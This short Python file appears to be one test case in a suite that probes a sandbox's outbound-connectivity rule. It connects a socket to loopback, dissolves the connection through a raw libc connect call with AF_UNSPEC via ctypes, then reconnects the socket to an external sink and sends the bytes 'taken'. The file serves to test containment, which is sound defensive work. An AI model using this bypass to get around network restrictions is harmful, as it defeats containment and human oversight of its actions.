# class: network
# rule: outbound_connectivity
# also: native_code
# success: a connection to loopback is dissolved, and its socket connected to the outside
# proof: sink
import ctypes
import socket

from attack import SINK, attempt


@attempt
def connect():
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen()
    out = socket.socket()
    out.connect(listener.getsockname())
    out.shutdown(socket.SHUT_RDWR)
    fd = out.detach()
    # AF_UNSPEC dissolves it; Python's own address type has no word for that.
    ctypes.CDLL(None).connect(fd, bytes(16), 16)
    again = socket.socket(fileno=fd)
    again.connect(SINK)
    return again.send(b"taken") == 5
